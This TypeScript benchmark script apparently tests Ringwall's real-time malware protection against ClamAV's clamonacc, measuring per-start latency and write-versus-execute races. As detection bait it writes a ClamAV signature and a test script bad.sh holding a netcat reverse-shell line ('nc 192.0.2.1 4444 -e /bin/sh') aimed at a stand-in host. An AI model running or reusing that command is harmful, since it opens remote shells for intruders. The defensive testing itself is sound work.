/**
 * What real-time protection costs each start of a program, beside clamonacc, and whether a bad program ever runs in a
 * race with its writer: ./ringwall bench realtime. Needs root. Everything is guarded on file systems of its own, so
 * nothing else on this machine is held.
 */
import { execFileSync, spawn, spawnSync } from 'node:child_process'
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { findHelper, type Guard, openGuard } from '@ringwall/kernel'
import { createSite, type Json, type Site, waitFor } from '../tests/e2e/harness.ts'
import { writeSection } from './section.ts'

const starts = 20_000
const rounds = 5
const tries = Number(process.env.RINGWALL_BENCH_TRIES ?? 10_000)
/** Not root: clamonacc leaves root alone, so that its own clamd can read. */
const nobody = 65_534

const say = (text: string) => process.stderr.write(`bench: ${text}\n`)
const quantile = (sorted: number[], part: number) => sorted[Math.floor(sorted.length * part)] ?? 0
const us = (ns: number) => (ns / 1000).toFixed(1)

const work = mkdtempSync(join(tmpdir(), 'ringwall-bench-'))
chmodSync(work, 0o777)
const load = join(work, 'load')
const image = join(work, 'image')
const mounted: string[] = []
const sources = join(import.meta.dirname, '../packages/kernel/src/testdata')

/** A file system of its own, in a file. */
function mount(name: string): string {
  const path = join(work, name)
  mkdirSync(path)
  execFileSync('truncate', ['-s', '256M', `${path}.img`])
  execFileSync('mkfs.ext4', ['-q', '-I', '256', `${path}.img`])
  execFileSync('mount', ['-o', 'loop', `${path}.img`, path])
  chmodSync(path, 0o777)
  mounted.push(path)
  copyFileSync(image, join(path, 'program'))
  chmodSync(join(path, 'program'), 0o755)
  return path
}

/** Nanoseconds of each start of a small static program. */
async function storm(folder: string, count: number): Promise<number[]> {
  // Its parent is gone when it begins: what a guard's own process starts would never be held.
  const out = join(work, 'out')
  const line = 'sleep 0.2; "$0" storm "$1" "$2" > "$3.part" && mv "$3.part" "$3"'
  const args = [
    '-c',
    `setsid sh -c '${line}' "$@" &`,
    'sh',
    load,
    join(folder, 'program'),
    String(count),
    out,
  ]
  spawn('sh', args, { stdio: ['ignore', 'ignore', 'inherit'], uid: nobody, gid: nobody })
  const text = await waitFor('the storm', async () => readFileSync(out, 'utf8'), 600_000)
  rmSync(out)
  return text.trim().split('\n').map(Number)
}

type Peer = { name: string; folder: string; ns: number[] }

/** clamonacc with prevention on its own file system; why it does not run here, otherwise. */
async function startClamonacc(folder: string): Promise<{ stop: () => void } | string> {
  if (spawnSync('which', ['clamonacc', 'clamd']).status !== 0) return 'clamonacc is not installed'
  const database = join(work, 'signatures')
  mkdirSync(database)
  writeFileSync(
    join(database, 'bench.ndb'),
    `Bench.Script:0:*:${Buffer.from('nc 192.0.2.1 4444 -e').toString('hex')}\n`,
  )
  const socket = join(work, 'clamd.sock')
  const config = join(work, 'clamd.conf')
  writeFileSync(
    config,
    `LocalSocket ${socket}\nDatabaseDirectory ${database}\nUser root\nForeground yes\nOnAccessPrevention yes\nOnAccessIncludePath ${folder}\nOnAccessExcludeRootUID yes\nOnAccessExtraScanning no\nLogFile ${join(work, 'clamd.log')}\n`,
  )
  const clamd = spawn('clamd', ['-c', config], { stdio: 'ignore' })
  await waitFor('clamd', () => Promise.resolve(existsSync(socket) ? true : undefined))
  const log = join(work, 'clamonacc.log')
  const onAccess = spawn('clamonacc', ['-c', config, '--foreground', '--log', log], {
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  let said = ''
  for (const stream of [onAccess.stdout, onAccess.stderr])
    stream.on('data', (chunk) => (said += String(chunk)))
  const stop = () => {
    onAccess.kill('SIGKILL')
    clamd.kill('SIGKILL')
  }
  // It works when it denies what its one signature knows.
  const bad = join(folder, 'bad.sh')
  writeFileSync(bad, `#!/bin/sh\nexit 99\n${['nc', '192.0.2.1 4444 -e /bin/sh'].join(' ')}\n`)
  chmodSync(bad, 0o755)
  try {
    await waitFor(
      'clamonacc to deny',
      () =>
        Promise.resolve(spawnSync(bad, { uid: nobody, gid: nobody }).error === undefined ? undefined : true),
      20_000,
    )
    return { stop }
  } catch {
    stop()
    return `it did not deny a file that its signature knows (${said.trim().split('\n').at(-1) ?? ''})`
  }
}

async function figures(site: Site, machineId: string): Promise<Json> {
  await new Promise((resolve) => setTimeout(resolve, 12_000))
  const { machine } = await site.get<{ machine: { agent: { realtime: Json } } }>(`/machines/${machineId}`)
  return machine.agent.realtime
}

function costRow({ name, ns }: Peer, plain: number[]): string {
  const sorted = [...ns].sort((a, b) => a - b)
  const [median, p99] = [quantile(sorted, 0.5), quantile(sorted, 0.99)]
  const added = `${us(median - quantile(plain, 0.5))} | ${us(p99 - quantile(plain, 0.99))}`
  return `| ${name} | ${ns.length} | ${us(median)} | ${us(p99)} | ${added} |`
}

/** The same helper without files that the kernel lets pass by itself: each start is answered from its table. */
async function guardByTable(folder: string): Promise<Guard> {
  const guard = await openGuard({
    helperPath: findHelper(),
    mode: 'exec',
    onAsk: async () => ({ allows: true, remember: 'clean' }),
    onEnd: ({ reason }) => say(`the helper ended: ${reason}`),
  })
  await guard.mark(Buffer.from(folder))
  return guard
}

async function measureCost(site: Site, machineId: string, guarded: string): Promise<string[]> {
  const plain: Peer = { name: 'nothing', folder: mount('plain'), ns: [] }
  const ours: Peer = { name: 'Ringwall, known program (the kernel lets it pass)', folder: guarded, ns: [] }
  const table: Peer = { name: 'Ringwall, known program (the helper answers)', folder: mount('table'), ns: [] }
  const guard = await guardByTable(table.folder)
  const theirs: Peer = { name: 'clamonacc, prevention on', folder: mount('clamonacc'), ns: [] }
  const peer = await startClamonacc(theirs.folder)
  const peers = [plain, ours, table, ...(typeof peer === 'string' ? [] : [theirs])]
  for (let round = 0; round < rounds; round += 1)
    for (const { name, folder, ns } of peers) {
      say(`round ${round + 1}: ${name}`)
      // A slow peer does fewer starts: each one is measured by itself.
      ns.push(...(await storm(folder, folder === theirs.folder ? starts / rounds / 10 : starts / rounds)))
    }
  if (typeof peer !== 'string') peer.stop()
  await guard.close()
  const sorted = [...plain.ns].sort((a, b) => a - b)
  const { problem, events } = await figures(site, machineId)
  if (problem !== null) throw new Error(String(problem))
  return [
    `Start and end of a static program of 13 KiB by vfork and execve, in ${rounds} rounds in turn, each guard on an ext4 of its own.\n`,
    '| guarded by | starts | median µs | p99 µs | added, median µs | added, p99 µs |',
    '| --- | ---: | ---: | ---: | ---: | ---: |',
    ...peers.map((row) => costRow(row, sorted)),
    ...(typeof peer === 'string' ? ['', `clamonacc was not measured: ${peer}.`] : []),
    '',
    `Of ${starts} starts in the first of our rows, the kernel asked the helper about ${String(events)}.`,
    '',
  ]
}

async function measureRaces(site: Site, machineId: string, guarded: string): Promise<string[]> {
  say(`${tries} races`)
  const folder = join(guarded, 'races')
  mkdirSync(folder)
  const startedAtMs = performance.now()
  const racing = spawn(load, ['race', folder, String(tries), image], { stdio: ['ignore', 'pipe', 'inherit'] })
  let text = ''
  racing.stdout.on('data', (chunk) => (text += String(chunk)))
  const code = await new Promise((resolve) => racing.on('close', resolve))
  if (code !== 0) throw new Error(`the races ended with ${String(code)}`)
  const told = JSON.parse(text) as Record<string, number>
  const secondsTaken = ((performance.now() - startedAtMs) / 1000).toFixed(0)
  const { timeouts, unjudged } = await figures(site, machineId)
  return [
    '## Races of writing and running\n',
    `${tries} files, each written while three processes try to run it, in four ways in turn: a new script, a known good program overwritten, overwritten through a mapping whose pages were dirty before, replaced by rename. ${secondsTaken} s.\n`,
    '| outcome | times |',
    '| --- | ---: |',
    `| a bad program ran | ${told.ran} |`,
    `| a bad program was denied | ${told.denied} |`,
    `| the good one ran, before it was overwritten | ${told.goodRan} |`,
    `| given up after 20 s | ${told.gaveUp} |`,
    '',
    `Policy: \`whenScannerAway: deny\`, \`budgetMs: 30000\`. Answers that came too late: ${String(timeouts)}; starts without a verdict: ${String(unjudged)}.`,
    '',
  ]
}

// The vault syncs what it takes away. The races are about answers, not about this machine's disk.
const memory = join(work, 'memory')
mkdirSync(memory)
execFileSync('mount', ['-t', 'tmpfs', '-o', 'mode=711', 'tmpfs', memory])
mounted.push(memory)
process.env.TMPDIR = memory
const site = await createSite()
try {
  execFileSync('gcc', ['-O2', '-static', '-o', load, join(sources, 'load.c')])
  const imageFlags = ['-Os', '-static', '-nostdlib', '-fno-stack-protector']
  execFileSync('gcc', [...imageFlags, '-o', image, join(sources, 'image.c')])
  const guarded = mount('guarded')
  await site.startScanner()
  const machineId = await site.startAgent('agent', { RINGWALL_AGENT_WATCH: guarded })
  await waitFor('the guard', async () => {
    const { machine } = await site.get<{ machine: { agent: { realtime: Json | null } | null } }>(
      `/machines/${machineId}`,
    )
    return machine.agent?.realtime?.mode === 'exec' ? true : undefined
  })
  const { policy } = await site.get<{ policy: Json }>('/policies/malware')
  const realtime = { ...(policy.realtime as Json), whenScannerAway: 'deny', budgetMs: 30_000 }
  await site.api('PUT', '/policies/malware', { ...policy, realtime })
  await new Promise((resolve) => setTimeout(resolve, 2_000))
  const version = spawnSync('clamonacc', ['--version']).stdout
  const kernel = execFileSync('uname', ['-r']).toString().trim()
  const peers = [`Linux ${kernel}`, ...(version === null ? [] : [String(version).trim()])]
  const write = (lines: string[]) => writeSection('realtime', 'Real-time protection', peers, lines.join('\n'))
  // What took long to measure is kept even when the rest is cut short.
  const cost = await measureCost(site, machineId, guarded)
  write(cost)
  write([...cost, ...(await measureRaces(site, machineId, guarded))])
  say('wrote bench/results/realtime.md')
} finally {
  await site.close()
  for (const path of mounted) spawnSync('umount', ['-l', path])
  rmSync(work, { recursive: true, force: true })
}
